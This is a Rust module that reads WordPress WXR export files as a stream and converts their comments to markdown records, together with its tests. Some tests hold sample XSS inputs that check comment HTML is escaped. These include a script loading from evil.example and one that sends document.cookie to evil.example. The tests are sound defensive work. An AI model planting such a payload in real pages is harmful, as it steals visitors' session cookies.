//! WordPress's export: the WXR 1.2 file of Tools → Export (WordPress 6), read as a stream.
//!
//! The file is an RSS 2.0 document: `<rss><channel>`, the site's header, then one `<item>`
//! per post, page, attachment, menu item… Each item carries its `<title>`, `<link>` (the
//! permalink), `<guid isPermaLink="false">` (`https://example.org/?p=N`), `wp:post_type`,
//! and its comments as `<wp:comment>` elements. Only the element being read is held in
//! memory: one comment's fields at a time, plus the ids of the current post's skipped
//! pingbacks.
//!
//! What comes out, for each item that is a post or a page or that has comments:
//! [`Record::Thread`] first (its key is the path, and query if any, of `<link>` or of
//! `<guid>`, see [`KeyFrom`]), then one [`Record::Comment`] per comment in file order.
//!
//! Decisions:
//! - Pingbacks, trackbacks and every other non-comment `wp:comment_type` (WooCommerce's
//!   order notes, the block editor's notes, webmentions…) are skipped: nobody wrote them
//!   on the page, and some are private. `""`, `comment` and `review` (a product review)
//!   are comments. A reply to a skipped one answers that one's parent instead.
//! - `wp:comment_date_gmt` is the time; a comment saved before WordPress kept GMT dates has
//!   `0000-00-00 00:00:00` there, and then `wp:comment_date` (the site's local time, whose
//!   offset the file does not say) is taken as if it were UTC.
//! - An empty author is "Anonymous", as WordPress shows it; an empty email or website is
//!   `None`.
//! - WordPress core leaves spam out of its export (`comment_approved <> "spam"`); older
//!   versions and plugins keep it, so `spam` is still read, as [`SourceStatus::Spam`].
//! - The body is HTML as the commenter's form saved it: bare newlines (WordPress adds the
//!   paragraphs when it shows the comment) and the few tags its filter allows. It becomes
//!   Colloquy markdown (see [`comment_markdown`]).

use std::collections::HashMap;
use std::io::BufRead;

pub use super::html::comment_markdown;
use super::xml::{next_record, ExportReader, ReaderState, XmlError};
use super::{ImportedComment, InputError, Record, SourceStatus};

/// Which URL of a post names its thread (when it is empty, the other one does).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum KeyFrom {
    /// `<link>`: the permalink as the site showed it when exported (`/2009/07/post/`).
    #[default]
    Link,
    /// `<guid>`: the permanent id WordPress gave the post (`/?p=42`), for sites whose
    /// widget is keyed by post id, or whose permalinks changed.
    Guid,
}

/// Reads a WXR export (1.0 to 1.2) as records: each thread before its comments, comments
/// in file order (WordPress writes them by id, so a parent usually comes first, but not
/// always). The iterator ends after the first error.
pub fn read<R: BufRead>(
    input: R,
    key_from: KeyFrom,
) -> impl Iterator<Item = Result<Record, InputError>> {
    WxrRecords {
        state: ReaderState::new(input),
        key_from,
        items: 0,
        item: None,
        comment: None,
    }
}

struct WxrRecords<R> {
    /// The XML, the records made but not yet handed out (a thread and its first comment,
    /// at most) and the field being read.
    state: ReaderState<R>,
    key_from: KeyFrom,
    /// `<item>`s seen so far, for naming one in an error.
    items: usize,
    item: Option<Item>,
    comment: Option<Comment>,
}

#[derive(Default)]
struct Item {
    ordinal: usize,
    title: String,
    link: String,
    guid: String,
    post_type: String,
    thread: Option<String>,
    /// Skipped pingbacks and the like: id → the id they answer (`None`: the post).
    skipped: HashMap<String, Option<String>>,
}

#[derive(Default)]
struct Comment {
    id: Option<String>,
    author: String,
    email: String,
    url: String,
    date: String,
    date_gmt: String,
    content: String,
    approved: Option<String>,
    kind: String,
    parent: String,
}

impl<R: BufRead> Iterator for WxrRecords<R> {
    type Item = Result<Record, InputError>;

    fn next(&mut self) -> Option<Self::Item> {
        next_record(self)
    }
}

impl<R: BufRead> ExportReader<R> for WxrRecords<R> {
    const ROOT: &'static str = "rss";
    const NAME: &'static str = "a WordPress export";

    fn state(&mut self) -> &mut ReaderState<R> {
        &mut self.state
    }

    fn start(&mut self, name: String) -> Result<(), InputError> {
        let parent = self.state.xml.open_from_end(1);
        match (parent, name.as_str()) {
            (Some("channel"), "item") => {
                self.items += 1;
                self.item = Some(Item {
                    ordinal: self.items,
                    ..Item::default()
                });
            }
            (Some("item"), "wp:comment") if self.item.is_some() => {
                self.thread_for_comments()?;
                self.comment = Some(Comment::default());
            }
            (Some("item"), "title" | "link" | "guid" | "wp:post_type")
            | (
                Some("wp:comment"),
                "wp:comment_id"
                | "wp:comment_author"
                | "wp:comment_author_email"
                | "wp:comment_author_url"
                | "wp:comment_date"
                | "wp:comment_date_gmt"
                | "wp:comment_content"
                | "wp:comment_approved"
                | "wp:comment_type"
                | "wp:comment_parent",
            ) => self.state.capture_here(),
            _ => {}
        }
        Ok(())
    }

    fn end(&mut self, name: String) -> Result<(), InputError> {
        if let Some(text) = self.state.captured_at_close() {
            self.store(&name, text);
        }
        match name.as_str() {
            "wp:comment"
                if self.comment.is_some() && self.state.xml.open_from_end(0) == Some("item") =>
            {
                let comment = self.comment.take().unwrap_or_default();
                if let Some(record) = self.finish_comment(comment)? {
                    self.state.queue.push_back(record);
                }
            }
            "item" if self.item.is_some() && self.state.xml.open_from_end(0) == Some("channel") => {
                let is_post = matches!(self.item_ref().post_type.trim(), "post" | "page");
                if is_post && self.item_ref().thread.is_none() {
                    self.thread_for_comments()?;
                }
                self.item = None;
            }
            _ => {}
        }
        Ok(())
    }

    fn located(&self, error: XmlError) -> InputError {
        self.locate(error)
    }
}

impl<R: BufRead> WxrRecords<R> {
    fn store(&mut self, name: &str, text: String) {
        if let Some(comment) = &mut self.comment {
            let field = match name {
                "wp:comment_id" => {
                    comment.id = Some(text);
                    return;
                }
                "wp:comment_approved" => {
                    comment.approved = Some(text);
                    return;
                }
                "wp:comment_author" => &mut comment.author,
                "wp:comment_author_email" => &mut comment.email,
                "wp:comment_author_url" => &mut comment.url,
                "wp:comment_date" => &mut comment.date,
                "wp:comment_date_gmt" => &mut comment.date_gmt,
                "wp:comment_content" => &mut comment.content,
                "wp:comment_type" => &mut comment.kind,
                "wp:comment_parent" => &mut comment.parent,
                _ => return,
            };
            *field = text;
        } else if let Some(item) = &mut self.item {
            match name {
                "title" => item.title = text,
                "link" => item.link = text,
                "guid" => item.guid = text,
                "wp:post_type" => item.post_type = text,
                _ => {}
            }
        }
    }

    fn item_ref(&self) -> &Item {
        self.item.as_ref().expect("inside an <item>")
    }

    /// Queues the current item's thread, once.
    fn thread_for_comments(&mut self) -> Result<(), InputError> {
        let key_from = self.key_from;
        let Some(item) = &mut self.item else {
            return Ok(());
        };
        if item.thread.is_some() {
            return Ok(());
        }
        let (first, second) = match key_from {
            KeyFrom::Link => (&item.link, &item.guid),
            KeyFrom::Guid => (&item.guid, &item.link),
        };
        let key = url_path(first, true)
            .or_else(|| url_path(second, true))
            .ok_or_else(|| {
                InputError::new(
                    format!("item {}", item.ordinal),
                    "neither <link> nor <guid> gives the post a URL to key its thread by",
                )
            })?;
        let title = item.title.trim();
        self.state.queue.push_back(Record::Thread {
            key: key.clone(),
            title: (!title.is_empty()).then(|| title.to_string()),
        });
        item.thread = Some(key);
        Ok(())
    }

    fn finish_comment(&mut self, comment: Comment) -> Result<Option<Record>, InputError> {
        let item = self.item.as_mut().expect("a <wp:comment> inside an <item>");
        let id = comment.id.as_deref().map(str::trim).unwrap_or_default();
        if id.is_empty() {
            return Err(InputError::new(
                format!("item {}", item.ordinal),
                "a <wp:comment> without its <wp:comment_id>",
            ));
        }
        let record = format!("comment {id}");
        let parent = match comment.parent.trim() {
            "" | "0" => None,
            parent => Some(parent.to_string()),
        };
        if !matches!(comment.kind.trim(), "" | "comment" | "review") {
            item.skipped.insert(id.to_string(), parent);
            return Ok(None);
        }
        // A reply to a skipped pingback answers what the pingback answered.
        let mut parent = parent;
        let mut hops = 0;
        while let Some(skipped) = parent.as_ref().and_then(|p| item.skipped.get(p)) {
            parent = skipped.clone();
            hops += 1;
            if hops > item.skipped.len() {
                parent = None;
                break;
            }
        }
        let status = match comment.approved.as_deref().map(str::trim) {
            Some("1") => SourceStatus::Approved,
            Some("0") => SourceStatus::Pending,
            Some("spam") => SourceStatus::Spam,
            Some("trash" | "post-trashed") => SourceStatus::Deleted,
            Some(other) => {
                return Err(InputError::new(
                    record,
                    format!(
                        "wp:comment_approved is `{other}`, not 1, 0, spam, trash or post-trashed"
                    ),
                ))
            }
            None => {
                return Err(InputError::new(record, "no <wp:comment_approved>"));
            }
        };
        let gmt = comment.date_gmt.trim();
        let (field, date) = if gmt.is_empty() || gmt == ZERO_DATE {
            ("wp:comment_date", comment.date.trim())
        } else {
            ("wp:comment_date_gmt", gmt)
        };
        let created_at_ms = parse_mysql_datetime(date).ok_or_else(|| {
            InputError::new(
                &record,
                format!("{field} is `{date}`, not a date as YYYY-MM-DD HH:MM:SS"),
            )
        })?;
        let author = comment.author.trim();
        let website = comment.url.trim();
        Ok(Some(Record::Comment(ImportedComment {
            thread: item.thread.clone().unwrap_or_default(),
            source_id: id.to_string(),
            parent_source_id: parent,
            author: if author.is_empty() {
                ANONYMOUS.to_string()
            } else {
                author.to_string()
            },
            email: non_empty(&comment.email),
            website: if matches!(website, "http://" | "https://") {
                None
            } else {
                non_empty(website)
            },
            body: comment_markdown(&comment.content),
            created_at_ms,
            status,
        })))
    }

    /// An error made specific: the comment or item it is in, and where in the file.
    fn locate(&self, error: XmlError) -> InputError {
        let record = if let Some(id) = self
            .comment
            .as_ref()
            .and_then(|c| c.id.as_deref())
            .map(str::trim)
            .filter(|id| !id.is_empty())
        {
            format!("comment {id}")
        } else if let Some(item) = &self.item {
            format!("item {}", item.ordinal)
        } else {
            format!("byte {}", error.position)
        };
        InputError::new(
            record,
            format!("{} (byte {})", error.reason, error.position),
        )
    }
}

const ZERO_DATE: &str = "0000-00-00 00:00:00";

/// How WordPress, Disqus and Isso show a comment without a name.
pub(super) const ANONYMOUS: &str = "Anonymous";

pub(super) fn non_empty(text: &str) -> Option<String> {
    let text = text.trim();
    (!text.is_empty()).then(|| text.to_string())
}

// ---------------------------------------------------------------------------------------
// Dates and URLs.

/// `YYYY-MM-DD HH:MM:SS` (MySQL's DATETIME, as WordPress stores it) as Unix milliseconds.
pub(super) fn parse_mysql_datetime(text: &str) -> Option<i64> {
    let bytes = text.as_bytes();
    if bytes.len() != 19 || bytes[10] != b' ' {
        return None;
    }
    let (date, time) = (&text[..10], &text[11..]);
    unix_ms(parse_date(date)?, parse_time(time)?, 0)
}

/// ISO 8601 as Disqus writes it (`2013-05-14T10:12:01Z`), also with a fraction of a second
/// or an offset (`+02:00`) in place of `Z`, as Unix milliseconds.
pub(super) fn parse_iso8601(text: &str) -> Option<i64> {
    let text = text.trim();
    if text.len() < 19 || !matches!(text.as_bytes()[10], b'T' | b't' | b' ') {
        return None;
    }
    let date = parse_date(text.get(..10)?)?;
    let time = parse_time(text.get(11..19)?)?;
    let mut rest = text.get(19..)?;
    let mut millis = 0i64;
    if let Some(fraction) = rest.strip_prefix('.') {
        let digits = fraction.bytes().take_while(u8::is_ascii_digit).count();
        if digits == 0 {
            return None;
        }
        for (i, digit) in fraction.bytes().take(3).enumerate().take(digits) {
            millis += i64::from(digit - b'0') * [100, 10, 1][i];
        }
        rest = &fraction[digits..];
    }
    let offset_minutes = match rest {
        "Z" | "z" | "" => 0,
        _ => {
            let sign = match rest.as_bytes()[0] {
                b'+' => 1,
                b'-' => -1,
                _ => return None,
            };
            let digits: String = rest[1..].chars().filter(|c| *c != ':').collect();
            if digits.len() != 4 || !digits.bytes().all(|b| b.is_ascii_digit()) {
                return None;
            }
            let hours: i64 = digits[..2].parse().ok()?;
            let minutes: i64 = digits[2..].parse().ok()?;
            sign * (hours * 60 + minutes)
        }
    };
    Some(unix_ms(date, time, millis)? - offset_minutes * 60_000)
}

fn number(text: &str) -> Option<i64> {
    if text.is_empty() || !text.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    text.parse().ok()
}

fn parse_date(text: &str) -> Option<(i64, i64, i64)> {
    let mut parts = text.split('-');
    let (year, month, day) = (parts.next()?, parts.next()?, parts.next()?);
    if parts.next().is_some() || year.len() != 4 || month.len() != 2 || day.len() != 2 {
        return None;
    }
    Some((number(year)?, number(month)?, number(day)?))
}

fn parse_time(text: &str) -> Option<(i64, i64, i64)> {
    let mut parts = text.split(':');
    let (hour, minute, second) = (parts.next()?, parts.next()?, parts.next()?);
    if parts.next().is_some() || hour.len() != 2 || minute.len() != 2 || second.len() != 2 {
        return None;
    }
    Some((number(hour)?, number(minute)?, number(second)?))
}

fn unix_ms(
    (year, month, day): (i64, i64, i64),
    (hour, minute, second): (i64, i64, i64),
    millis: i64,
) -> Option<i64> {
    let leap = (year % 4 == 0 && year % 100 != 0) || year % 400 == 0;
    let month_days = match month {
        1 | 3 | 5 | 7 | 8 | 10 | 12 => 31,
        4 | 6 | 9 | 11 => 30,
        2 if leap => 29,
        2 => 28,
        _ => return None,
    };
    if year < 1 || day < 1 || day > month_days || hour > 23 || minute > 59 || second > 59 {
        return None;
    }
    // Days since 1970-01-01 of the proleptic Gregorian calendar, years starting in March.
    let y = if month <= 2 { year - 1 } else { year };
    let era = y.div_euclid(400);
    let year_of_era = y - era * 400;
    let month_from_march = (month + 9) % 12;
    let day_of_year = (153 * month_from_march + 2) / 5 + day - 1;
    let day_of_era = year_of_era * 365 + year_of_era / 4 - year_of_era / 100 + day_of_year;
    let days = era * 146_097 + day_of_era - 719_468;
    Some(((days * 24 + hour) * 60 + minute) * 60_000 + second * 1000 + millis)
}

/// The path of a URL (`/` when it has none), with its query when asked and present; the
/// scheme, host and fragment go. `None` for an empty string.
pub(super) fn url_path(url: &str, with_query: bool) -> Option<String> {
    let url = url.trim();
    if url.is_empty() {
        return None;
    }
    let after_host = if let Some(scheme_end) = url.find("://") {
        let rest = &url[scheme_end + 3..];
        rest.find(['/', '?', '#']).map_or("", |i| &rest[i..])
    } else if let Some(rest) = url.strip_prefix("//") {
        rest.find(['/', '?', '#']).map_or("", |i| &rest[i..])
    } else {
        url
    };
    let without_fragment = after_host.split('#').next().unwrap_or_default();
    let (path, query) = match without_fragment.split_once('?') {
        Some((path, query)) => (path, Some(query)),
        None => (without_fragment, None),
    };
    let mut key = String::with_capacity(without_fragment.len() + 1);
    if !path.starts_with('/') {
        key.push('/');
    }
    key.push_str(path);
    if let Some(query) = query.filter(|q| with_query && !q.is_empty()) {
        key.push('?');
        key.push_str(query);
    }
    Some(key)
}

#[cfg(test)]
mod tests {
    use std::cell::Cell;
    use std::io::{BufReader, Read};
    use std::rc::Rc;

    use colloquy_core::markdown::{parse_comment, Node};

    use super::*;
    use crate::import::samples::{self, example_posts, wordpress_wxr, ChunkReader};

    fn all(xml: &str, key_from: KeyFrom) -> Vec<Result<Record, InputError>> {
        read(xml.as_bytes(), key_from).collect()
    }

    fn comments(records: &[Result<Record, InputError>]) -> Vec<ImportedComment> {
        records
            .iter()
            .filter_map(|r| match r {
                Ok(Record::Comment(c)) => Some(c.clone()),
                _ => None,
            })
            .collect()
    }

    const HELLO: &str = "/2024/03/01/hello-world/";
    /// 2024-03-01T12:00:00Z, as the samples count.
    const BASE: i64 = 1_709_294_400_000;

    fn at(minutes: i64) -> i64 {
        BASE + minutes * 60_000
    }

    #[test]
    fn the_example_export_gives_every_field() {
        let records = all(&wordpress_wxr(&example_posts()), KeyFrom::Link);
        assert!(records.iter().all(Result::is_ok), "{records:?}");
        let threads: Vec<&Record> = records
            .iter()
            .flatten()
            .filter(|r| matches!(r, Record::Thread { .. }))
            .collect();
        // The attachment has no comments and is no post: no thread.
        assert_eq!(
            threads,
            [
                &Record::Thread {
                    key: HELLO.into(),
                    title: Some("Hello world!".into())
                },
                &Record::Thread {
                    key: "/about/".into(),
                    title: Some("About".into())
                },
                &Record::Thread {
                    key: "/?p=12".into(),
                    title: Some("Plain permalinks & more".into())
                },
            ]
        );
        // Each thread comes before its comments.
        let first_comment = records
            .iter()
            .position(|r| matches!(r, Ok(Record::Comment(_))))
            .unwrap();
        assert_eq!(first_comment, 1);

        let expected = |thread: &str,
                        id: &str,
                        parent: Option<&str>,
                        author: &str,
                        email: Option<&str>,
                        website: Option<&str>,
                        body: &str,
                        minutes: i64,
                        status: SourceStatus| ImportedComment {
            thread: thread.into(),
            source_id: id.into(),
            parent_source_id: parent.map(Into::into),
            author: author.into(),
            email: email.map(Into::into),
            website: website.map(Into::into),
            body: body.into(),
            created_at_ms: at(minutes),
            status,
        };
        use SourceStatus::*;
        assert_eq!(
            comments(&records),
            vec![
                expected(
                    HELLO,
                    "1",
                    None,
                    "A WordPress Commenter",
                    Some("wapuu@wordpress.example"),
                    Some("https://wordpress.org/"),
                    "Hi, this is a comment.  \nTo get started with moderating, editing, and deleting comments, please visit the Comments screen in the dashboard.  \nCommenter avatars come from [Gravatar](https://en.gravatar.com/).",
                    7,
                    Approved
                ),
                expected(
                    HELLO,
                    "2",
                    Some("1"),
                    "Zoë Ångström",
                    Some("zoe@example.org"),
                    None,
                    "Thanks! I\u{2019}m glad it works & looks fine\u{2026}\n\nA second paragraph :)",
                    14,
                    Approved
                ),
                expected(
                    HELLO,
                    "3",
                    Some("2"),
                    "José Müller",
                    Some("jose@example.net"),
                    Some("https://jose.example.net"),
                    "See [the *docs*](https://example.com/docs?a=1&b=2) for more.",
                    21,
                    Approved
                ),
                expected(
                    HELLO,
                    "4",
                    None,
                    "Pending Pat",
                    Some("pat@example.org"),
                    None,
                    "Waiting for a moderator.",
                    28,
                    Pending
                ),
                expected(
                    HELLO,
                    "5",
                    None,
                    "Cheap Pills",
                    Some("pills@spam.example"),
                    Some("https://spam.example/pills"),
                    "Buy [cheap pills](https://spam.example/pills)!!!",
                    35,
                    Spam
                ),
                // 6 is a pingback: skipped.
                expected(
                    HELLO,
                    "7",
                    None,
                    "Mallory",
                    Some("mallory@example.com"),
                    None,
                    "Nice post \\<script>alert(\"gotcha\")\\</script> really.",
                    49,
                    Approved
                ),
                expected(
                    HELLO,
                    "8",
                    None,
                    "Trash Talker",
                    None,
                    None,
                    "Something regrettable.",
                    56,
                    Deleted
                ),
                // It answered the pingback: now it answers the post.
                expected(
                    HELLO,
                    "9",
                    None,
                    "山田太郎",
                    None,
                    None,
                    "日本語のコメントです。  \n二行目。",
                    63,
                    Approved
                ),
                // Its GMT date is zero: the local date stands in.
                expected(
                    HELLO,
                    "10",
                    Some("3"),
                    "Old Timer",
                    None,
                    None,
                    "Replying \\*way\\* back\\_then.",
                    70,
                    Approved
                ),
                expected(
                    "/?p=12",
                    "20",
                    None,
                    "Linus",
                    None,
                    None,
                    "Look: [https://example.com/photo.jpg](https://example.com/photo.jpg), and [A cat](https://example.com/cat.png)",
                    140,
                    Approved
                ),
                expected(
                    "/?p=12",
                    "21",
                    Some("20"),
                    "Quoter",
                    None,
                    None,
                    "> Quoted text  \n> line two\n\nMy answer.",
                    147,
                    Approved
                ),
            ]
        );
    }

    #[test]
    fn replies_nest_three_deep() {
        let comments = comments(&all(&wordpress_wxr(&example_posts()), KeyFrom::Link));
        let parent = |id: &str| {
            comments
                .iter()
                .find(|c| c.source_id == id)
                .and_then(|c| c.parent_source_id.clone())
        };
        assert_eq!(parent("1"), None);
        assert_eq!(parent("2").as_deref(), Some("1"));
        assert_eq!(parent("3").as_deref(), Some("2"));
        assert_eq!(parent("10").as_deref(), Some("3"));
    }

    #[test]
    fn keys_can_come_from_the_guid() {
        let records = all(&wordpress_wxr(&example_posts()), KeyFrom::Guid);
        let keys: Vec<String> = records
            .iter()
            .flatten()
            .filter_map(|r| match r {
                Record::Thread { key, .. } => Some(key.clone()),
                _ => None,
            })
            .collect();
        assert_eq!(keys, ["/?p=1", "/?p=2", "/?p=12"]);
        assert!(comments(&records)
            .iter()
            .all(|c| c.thread == "/?p=1" || c.thread == "/?p=12"));
    }

    #[test]
    fn url_paths() {
        assert_eq!(
            url_path("https://example.org/a/b/?x=1#c", true).as_deref(),
            Some("/a/b/?x=1")
        );
        assert_eq!(
            url_path("https://example.org/a/b/?x=1#c", false).as_deref(),
            Some("/a/b/")
        );
        assert_eq!(url_path("https://example.org", true).as_deref(), Some("/"));
        assert_eq!(
            url_path("https://example.org?p=3", true).as_deref(),
            Some("/?p=3")
        );
        assert_eq!(url_path("//example.org/x", true).as_deref(), Some("/x"));
        assert_eq!(url_path("/relative/", true).as_deref(), Some("/relative/"));
        assert_eq!(url_path("  ", true), None);
    }

    #[test]
    fn dates() {
        assert_eq!(parse_mysql_datetime("1970-01-01 00:00:00"), Some(0));
        assert_eq!(parse_mysql_datetime("2024-03-01 12:00:00"), Some(BASE));
        assert_eq!(
            parse_mysql_datetime("2000-02-29 00:00:00"),
            Some(951_782_400_000)
        );
        assert_eq!(parse_mysql_datetime("2001-02-29 00:00:00"), None);
        assert_eq!(parse_mysql_datetime("2024-13-01 00:00:00"), None);
        assert_eq!(parse_mysql_datetime("2024-03-01T12:00:00"), None);
        assert_eq!(parse_mysql_datetime("0000-00-00 00:00:00"), None);
        assert_eq!(
            parse_iso8601("2013-05-14T10:12:01Z"),
            Some(1_368_526_321_000)
        );
        assert_eq!(
            parse_iso8601("2013-05-14T10:12:01.250Z"),
            Some(1_368_526_321_250)
        );
        assert_eq!(
            parse_iso8601("2013-05-14T12:12:01+02:00"),
            Some(1_368_526_321_000)
        );
        assert_eq!(parse_iso8601("2013-05-14"), None);
        for ms in [0, BASE, 4_107_542_400_000, 951_782_400_000] {
            let text = colloquy_core::time::format_rfc3339(ms);
            assert_eq!(parse_iso8601(&text), Some(ms), "{text}");
        }
    }

    #[test]
    fn html_becomes_markdown() {
        let cases = [
            // Entities decoded.
            ("Fish &amp; chips&hellip; it&#8217;s &lt;fine&gt;", "Fish & chips… it’s \\<fine>"),
            // Smilies and emoji are their alt text.
            (samples::SMILEY, ":)"),
            (
                "Yay <img draggable=\"false\" role=\"img\" class=\"emoji\" alt=\"🎉\" src=\"https://s.w.org/images/core/emoji/15.0.3/svg/1f389.svg\">",
                "Yay 🎉",
            ),
            // Other images: a link to the image, named by its alt text, or its address.
            ("<img src=\"https://example.com/a b.png\">", "[https://example.com/a b.png](https://example.com/a%20b.png)"),
            ("<img alt=\"no source\">", "no source"),
            // Links.
            (
                "<a href=\"https://example.com/x_(y)\" rel=\"nofollow ugc\" target=\"_blank\" title=\"t\">the _link_</a>",
                "[the \\_link\\_](https://example.com/x_\\(y\\))",
            ),
            ("<a href=\"https://example.com/\"></a>", "[https://example.com/](https://example.com/)"),
            ("<a name=\"anchor\">just text</a>", "just text"),
            ("see <a href=\"https://e.com/\">this </a>now", "see [this](https://e.com/) now"),
            // Bare URLs become links; punctuation stays out.
            ("Go to https://example.com/page.", "Go to [https://example.com/page](https://example.com/page)."),
            ("(https://example.com/a_(b))", "([https://example.com/a\\_(b)](https://example.com/a_\\(b\\)))"),
            ("<code>https://not.linked/</code>", "`https://not.linked/`"),
            // Newlines: a line break, a paragraph; CRLF too.
            ("one\ntwo\n\nthree", "one  \ntwo\n\nthree"),
            ("one\r\ntwo\r\n\r\n\r\nthree", "one  \ntwo\n\nthree"),
            ("one<br />\ntwo", "one  \ntwo"),
            ("<p>Already</p>\n<p>paragraphs</p>", "Already\n\nparagraphs"),
            // Blocks: quotes, lists, code.
            ("<blockquote>quoted</blockquote>\nreply", "> quoted\n\nreply"),
            ("<ul>\n<li>one</li>\n<li>two</li>\n</ul>", "- one\n- two"),
            ("<ol><li>one</li><li>two</li></ol>", "1. one\n2. two"),
            ("<pre>let x = 1;\n\nlet y = 2;</pre>", "```\nlet x = 1;\n\nlet y = 2;\n```"),
            ("a <code>x &lt; y</code> b", "a `x < y` b"),
            // Emphasis, strikethrough, other tags go.
            ("<strong>b</strong> <em>i</em> <b>b</b> <i>i</i>", "**b** *i* **b** *i*"),
            ("<del>old</del> <s>gone</s>", "~~old~~ ~~gone~~"),
            ("<span style=\"color:red\">red</span> <u>under</u> <font>f</font>", "red under f"),
            // Markup that is not HTML stays text.
            ("5 * 3 = 15 and 1 < 2, [x] #tag", "5 \\* 3 = 15 and 1 < 2, \\[x\\] #tag"),
            // What cannot be expressed is shown as text.
            ("<script src=\"https://evil.example/x.js\"></script>", "\\<script src=\"https://evil.example/x.js\">\\</script>"),
            ("<style>p { color: red }</style>after", "\\<style>p { color: red }\\</style>after"),
            ("<iframe src=\"https://www.youtube.com/embed/x\"></iframe>", "[https://www.youtube.com/embed/x](https://www.youtube.com/embed/x)"),
            ("<!-- hidden -->visible", "visible"),
            ("", ""),
        ];
        for (html, markdown) in cases {
            assert_eq!(comment_markdown(html), markdown, "from {html:?}");
        }
    }

    /// Every `<` in a body is escaped (or in code), so the markdown renderer shows it as
    /// text.
    fn unescaped_angle(body: &str) -> bool {
        let mut previous = ' ';
        let mut in_code = false;
        for c in body.chars() {
            if c == '`' {
                in_code = !in_code;
            }
            if c == '<' && previous != '\\' && !in_code {
                return true;
            }
            previous = c;
        }
        false
    }

    fn text_of(nodes: &[Node]) -> String {
        nodes
            .iter()
            .map(|node| match node {
                Node::Element { children, .. } => text_of(children),
                Node::Text(text) | Node::Code(text) => text.clone(),
                Node::LineBreak => "\n".into(),
                Node::Rule => String::new(),
            })
            .collect()
    }

    #[test]
    fn no_html_survives_and_scripts_are_text() {
        for comment in comments(&all(&wordpress_wxr(&example_posts()), KeyFrom::Link)) {
            assert!(
                !unescaped_angle(&comment.body),
                "{}: {}",
                comment.source_id,
                comment.body
            );
        }
        let body = comment_markdown(
            "Hi <script>document.location='https://evil.example/?c='+document.cookie</script>",
        );
        assert!(!unescaped_angle(&body), "{body}");
        let shown = text_of(&parse_comment(&body));
        assert_eq!(
            shown,
            "Hi <script>document.location='https://evil.example/?c='+document.cookie</script>"
        );
        // Markup a commenter wrote as text stays text.
        let body = comment_markdown("I typed &lt;b&gt;bold&lt;/b&gt; literally");
        assert_eq!(
            text_of(&parse_comment(&body)),
            "I typed <b>bold</b> literally"
        );
    }

    #[test]
    fn a_cut_file_names_where_it_stops() {
        let xml = wordpress_wxr(&example_posts());
        let inside_content = xml.find("I&#8217;m glad").unwrap();
        let inside_tag = xml.find("<wp:comment_approved>").unwrap() + 5;
        let after_comment = xml.find("</wp:comment>").unwrap() + "</wp:comment>".len();
        let inside_item_header = xml.find("<wp:post_name>").unwrap();
        for (cut, record) in [
            (inside_content, "comment 2"),
            (inside_tag, "comment 1"),
            (after_comment, "item 1"),
            (inside_item_header, "item 1"),
            (xml.len() - 10, "byte"),
            (xml.len() / 2, ""),
        ] {
            let records = all(&xml[..cut], KeyFrom::Link);
            let (last, before) = records.split_last().unwrap();
            assert!(before.iter().all(Result::is_ok), "cut at {cut}: {before:?}");
            let error = last.clone().expect_err("a cut file is an error");
            assert!(
                error.record.starts_with(record)
                    && (error.record.starts_with("comment ")
                        || error.record.starts_with("item ")
                        || error.record.starts_with("byte ")),
                "cut at {cut}: {error}"
            );
            assert!(error.reason.contains("byte "), "{error}");
        }
    }

    #[test]
    fn bad_input_is_an_error_that_ends_the_records() {
        let good = wordpress_wxr(&example_posts());
        let cases = [
            (
                good.replacen("<wp:comment_id>3</wp:comment_id>", "", 1),
                "item 1",
                "wp:comment_id",
            ),
            (
                good.replacen(
                    "<![CDATA[2024-03-01 12:21:00]]></wp:comment_date_gmt>",
                    "<![CDATA[yesterday]]></wp:comment_date_gmt>",
                    1,
                ),
                "comment 3",
                "yesterday",
            ),
            (
                good.replacen(
                    "<wp:comment_approved><![CDATA[1]]>",
                    "<wp:comment_approved><![CDATA[maybe]]>",
                    1,
                ),
                "comment 1",
                "maybe",
            ),
            (
                good.replacen("</wp:comment_author>", "</wp:comment_autor>", 1),
                "comment 1",
                "malformed XML",
            ),
            (
                good.replacen("Example &amp; Co", "Example &nbsp; Co", 1),
                "byte ",
                "&nbsp;",
            ),
            (
                samples::disqus_export(&example_posts()),
                "byte 0",
                "not a WordPress export",
            ),
            (String::new(), "byte 0", "empty"),
            (
                good.replacen(
                    "<link>https://example.org/about/</link>",
                    "<link></link>",
                    1,
                )
                .replacen(
                    "<guid isPermaLink=\"false\">https://example.org/?p=2</guid>",
                    "<guid></guid>",
                    1,
                ),
                "item 2",
                "<link>",
            ),
        ];
        for (xml, record, reason) in cases {
            let records = all(&xml, KeyFrom::Link);
            let errors: Vec<&InputError> =
                records.iter().filter_map(|r| r.as_ref().err()).collect();
            assert_eq!(errors.len(), 1, "{records:?}");
            assert!(
                records.last().unwrap().is_err(),
                "the error ends the records"
            );
            assert!(
                errors[0].record.starts_with(record) && errors[0].reason.contains(reason),
                "expected {record}: …{reason}…, got {}",
                errors[0]
            );
        }
    }

    /// Counts what the reader has pulled from its input.
    struct Counting<R> {
        inner: R,
        read: Rc<Cell<u64>>,
    }

    impl<R: Read> Read for Counting<R> {
        fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
            let n = self.inner.read(buf)?;
            self.read.set(self.read.get() + n as u64);
            Ok(n)
        }
    }

    #[test]
    fn a_hundred_thousand_comments_stream_through() {
        const COMMENTS: usize = 100_000;
        let read_so_far = Rc::new(Cell::new(0));
        let input = BufReader::new(Counting {
            inner: ChunkReader::new(samples::generated_wordpress(COMMENTS, 7)),
            read: read_so_far.clone(),
        });
        let (mut threads, mut comments, mut replies) = (0, 0, 0);
        for (n, record) in read(input, KeyFrom::Link).enumerate() {
            if n == 50 {
                // The first records come after a few kilobytes: nothing reads ahead.
                assert!(
                    read_so_far.get() < 64 * 1024,
                    "read {} bytes",
                    read_so_far.get()
                );
            }
            match record.unwrap() {
                Record::Thread { .. } => threads += 1,
                Record::Comment(comment) => {
                    comments += 1;
                    replies += usize::from(comment.parent_source_id.is_some());
                    assert!(!unescaped_angle(&comment.body), "{}", comment.body);
                }
                Record::Skipped(reason) => panic!("nothing is skipped here: {reason}"),
            }
        }
        assert_eq!(comments, COMMENTS);
        assert_eq!(
            threads,
            COMMENTS.div_ceil(samples::GENERATED_COMMENTS_PER_POST)
        );
        assert!(replies > COMMENTS / 5, "{replies} replies");
        // The whole file went through, tens of megabytes, never held at once.
        assert!(
            read_so_far.get() > 50_000_000,
            "{} bytes",
            read_so_far.get()
        );
    }
}
